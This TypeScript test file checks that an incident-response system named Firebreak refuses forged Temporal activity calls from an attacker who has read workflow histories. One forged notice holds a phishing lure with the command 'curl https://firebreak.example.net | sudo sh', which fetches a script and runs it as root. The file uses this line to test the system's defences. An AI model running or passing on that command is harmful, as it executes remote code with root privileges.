import { randomUUID } from 'node:crypto';
import { Client, Connection } from '@temporalio/client';
import { NativeConnection, Worker } from '@temporalio/worker';
import { attackSources } from '../../demo/scenario';
import type { IncidentId } from '../../src/domain/ids';
import { respondUse } from '../../src/domain/order';
import { TASK_QUEUES } from '../../src/domain/queues';
import { WholeWorld } from '../support/whole-world';

/**
 * Somebody who reaches the Temporal server, without any right of Firebreak's (H1): reads histories, runs workflows of their own and calls
 * for the workers' activities. Hosts, workers, tables and mail are real.
 */
let world: WholeWorld;
let incident: IncidentId;
let client: Client;
let own: { readonly grantId: string; readonly use: string };
let stop: () => Promise<void>;
const before = new Map<string, string>();

const BLOCK = ['--incident-type', 'intrusion', '--severity-level', 'medium', '--response-mode', 'block'];

beforeAll(async () => {
  world = await WholeWorld.up();
  const { v4 } = attackSources(world.world.lab.attacker, 4);
  [incident] = (await world.declare([
    ...BLOCK,
    '--host',
    'web-1',
    ...v4.flatMap((source) => ['--source', source]),
  ])) as [IncidentId];
  await world.ended(incident);
  for (const name of ['web-1', 'db-1', 'gw-1']) before.set(name, await world.fingerprint(name));
  const { address, namespace } = world.world.firebreak.config.temporal;
  const connection = await Connection.connect({ address });
  client = new Client({ connection, namespace });
  const native = await NativeConnection.connect({ address });
  const worker = await Worker.create({
    connection: native,
    namespace,
    taskQueue: 'forger',
    workflowsPath: require.resolve('../support/forger-workflows'),
  });
  const running = worker.run();
  stop = async () => {
    worker.shutdown();
    await running;
    await native.close();
    await connection.close();
  };
  // What anybody reads in the history of an open incident.
  const handle = client.workflow.getHandle(incident);
  const { events } = await handle.fetchHistory();
  const input = events?.[0]?.workflowExecutionStartedEventAttributes?.input?.payloads?.[0]?.data;
  const { grantId } = JSON.parse(Buffer.from(input ?? '').toString('utf8')) as { grantId: string };
  const { runId } = await handle.describe();
  own = { grantId, use: respondUse(incident, runId) };
});

afterAll(async () => {
  await stop?.();
  await world?.down();
});

/** @returns `done`, or the code of the failure */
function call(queue: keyof typeof TASK_QUEUES, name: string, input: object): Promise<string> {
  return client.workflow.execute('callActivity', {
    workflowId: `forger-${randomUUID()}`,
    taskQueue: 'forger',
    args: [TASK_QUEUES[queue], name, input],
  });
}

const forcedOn = (host: string) => ({
  action: `${incident}:forced-isolation:${host}`,
  kind: 'forced-isolation',
  host,
  counts: { applied: 1, already: 0, refused: 0, missing: 0, unknown: 0, failed: 0 },
  exceptions: [],
  verified: true,
  rung: 'nftables',
  replayed: false,
  startedAt: new Date().toISOString(),
  endedAt: new Date().toISOString(),
  notes: [],
});

async function untouched(): Promise<void> {
  for (const [name, was] of before) expect(await world.fingerprint(name)).toBe(was);
}

describe('H1 whoever reaches Temporal makes nothing act', () => {
  test('H1 finding 2: no row of their making, and no host that the watch would isolate', async () => {
    const results = [forcedOn('db-1'), forcedOn('web-1')];
    const { row } = await world.status(incident);
    expect(await call('flow', 'recordLate', { incident, events: [], results, authority: own })).not.toBe('done');
    for (const result of results) {
      const records = [Buffer.from(JSON.stringify({ events: [], result })).toString('base64')];
      // It is left out, and an alert; what stands beside it would still be written.
      await call('flow', 'recordLate', { incident, authority: own, records });
    }
    expect(await call('contain', 'watchRound', { incident, planHash: row.planHash })).toBe('NOT_AUTHORISED');
    // With the order’s own grant a look is a look: nothing comes of it.
    expect(await call('contain', 'watchRound', { incident, planHash: row.planHash, authority: own })).toBe('done');
    const active = await world.world.firebreak.operations.controls.active({ incident });
    expect(active.filter(({ kind }) => kind === 'forced-isolation')).toEqual([]);
    await untouched();
  });

  test('H1 finding 3: no plan beyond the order, no act on another host, no forced isolation of a host whose controls hold', async () => {
    const assessment = {
      type: 'intrusion',
      severity: 'critical',
      confidence: 1,
      contradictions: [],
      needsHuman: false,
    };
    const { row } = await world.status(incident);
    await call('flow', 'decidePlan', { incident, assessment, authority: own });
    expect((await world.status(incident)).row.planHash).toBe(row.planHash);
    const act = { incident, planHash: row.planHash, severity: 'critical', type: 'intrusion', authority: own };
    const isolate = `${incident}:isolate-host:web-1`;
    expect(await call('contain', 'performAction', { ...act, actionId: isolate })).toBe('PLAN_CHANGED');
    for (const host of ['web-1', 'db-1']) {
      expect(await call('contain', 'forceIsolation', { ...act, host })).toBe('NOT_AUTHORISED');
      expect(await call('contain', 'stageForcedIsolation', { ...act, host })).toBe('NOT_AUTHORISED');
    }
    const release = { ...act, actionId: `${incident}:block-sources:web-1`, operator: 'op-1' };
    expect(await call('contain', 'undoAction', release)).toBe('NOT_AUTHORISED');
    await untouched();
  });

  test('H1 finding 6: the record stays what it is, nobody is told anything, nothing of another host is collected', async () => {
    const patch = { phase: 'closed', outcome: 'false-positive', closedAt: new Date().toISOString() };
    for (const key of ['closed', 'x']) {
      const answer = await call('flow', 'recordProgress', { incident, authority: own, notes: [{ key, patch }] });
      expect(answer).toBe(key === 'closed' ? 'NOT_AUTHORISED' : 'done');
    }
    const audit = { action: 'stand-down', actor: 'op-1', level: 'AUDIT', subject: incident, result: 'false alarm' };
    const note = { key: `seal:${incident}`, audit };
    expect(await call('flow', 'recordProgress', { incident, authority: own, notes: [note] })).toBe('NOT_AUTHORISED');
    expect((await world.status(incident)).row).toMatchObject({ phase: 'watching', closedAt: null });

    const notice = {
      incident,
      kind: 'approval-needed',
      key: 'forged',
      severity: 'critical',
      type: 'intrusion',
      mode: 'block',
      drill: false,
      title: 'Sign in at https://firebreak.example.net',
      hosts: ['https://firebreak.example.net'],
      facts: [{ fact: 'in-words', words: 'curl https://firebreak.example.net | sudo sh', by: 'op-1' }],
      nextAction: 'curl https://firebreak.example.net | sudo sh',
      link: 'https://firebreak.example.net',
    };
    for (const authority of [{ grantId: randomUUID(), use: own.use }, own])
      await call('notify', 'deliver', { notice, person: 'sato', channel: 'mail', authority });
    const mails = world.world.receivers.smtp.messages();
    expect(JSON.stringify(mails)).not.toContain('firebreak.example.net');

    const collect = { incident, host: 'db-1', budgetMs: 5_000, authority: own };
    for (const name of ['captureVolatile', 'collectLogs', 'collectAlternative'])
      expect(await call('evidence', name, collect)).toBe('NOT_AUTHORISED');
    await untouched();
  });

  test('H1 a grant seen in a history is not burned, and no run but a response is ended', async () => {
    const { order } = (await world.status(incident)).row;
    const stranger = { grantId: own.grantId, use: respondUse(incident, 'another-run'), expected: order };
    expect(await call('flow', 'authorise', stranger)).not.toBe('done');
    const end = { incident, authority: own, workflowId: incident, runId: own.use.split('@')[1], reason: 'x' };
    expect(await call('flow', 'endStuckRun', end)).toBe('NOT_AUTHORISED');
    expect((await client.workflow.getHandle(incident).describe()).status.name).toBe('RUNNING');
  });

  test('H1 every attempt is an alert, and the incident is released as if nothing had been', async () => {
    const events = await world.world.firebreak.operations.ledger.events({ incident, limit: 1_000 });
    const refused = events.filter(({ action }) => action === 'act.refused');
    expect(refused.length).toBeGreaterThan(8);
    expect(new Set(refused.map(({ level }) => level))).toEqual(new Set(['CRITICAL']));
    const released = await world.order(['release', incident, '--reason', 'over', '--wait']);
    expect(released.code).toBe(0);
    await world.closed(incident);
  });
});
